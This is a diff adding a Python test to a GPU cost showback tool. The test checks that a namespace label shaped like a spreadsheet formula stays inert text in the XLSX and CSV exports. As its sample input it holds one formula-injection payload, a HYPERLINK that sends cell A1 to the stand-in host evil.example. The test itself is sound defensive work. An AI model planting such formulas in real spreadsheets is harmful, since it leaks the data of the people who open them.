@@ -176,6 +176,33 @@ def test_the_showback_file_csv_and_xlsx(planted, tmp_path):
     assert about_rows["days in the lake"] == "2 of 31" and about_rows["month to date"] == "no"
 
 
+def test_a_label_that_reads_as_a_formula_stays_text_in_the_showback_files(tmp_path):
+    """Labels are other people's text: a namespace `=HYPERLINK(...)` was written as a formula
+    cell of the workbook, run when it is opened (adversarial review). The workbook keeps it a
+    string; the CSV gives it a leading `'`, which a spreadsheet shows as text."""
+    import zipfile
+
+    import openpyxl
+
+    from gpu_pipeline.lib.io.showback import write_csv, write_xlsx
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    row = {c: 1.0 for c in COLUMNS} | {"month": "2024-01", "days_covered": 1}
+    df = pl.DataFrame(
+        [row | {"cluster": "-c", "namespace": evil}, row | {"cluster": "c", "namespace": "ns"}]
+    ).select(COLUMNS)
+    about = {"month": "2024-01", "month_to_date": False, "days_in_lake": 1, "days_in_month": 31}
+    write_xlsx(df, about | {"first_day": "", "last_day": ""}, tmp_path / "x.xlsx")
+    sheet = zipfile.ZipFile(tmp_path / "x.xlsx").read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet
+    cells = [r[2] for r in openpyxl.load_workbook(tmp_path / "x.xlsx")["showback"].values]
+    assert cells == ["namespace", evil, "ns"]
+    write_csv(df, tmp_path / "x.csv")
+    with open(tmp_path / "x.csv") as f:
+        got = [(r["cluster"], r["namespace"]) for r in csv.DictReader(f)]
+    assert got == [("'-c", "'" + evil), ("c", "ns")]
+
+
 def test_the_report_has_a_month_to_date_line_per_namespace(planted):
     import re
 
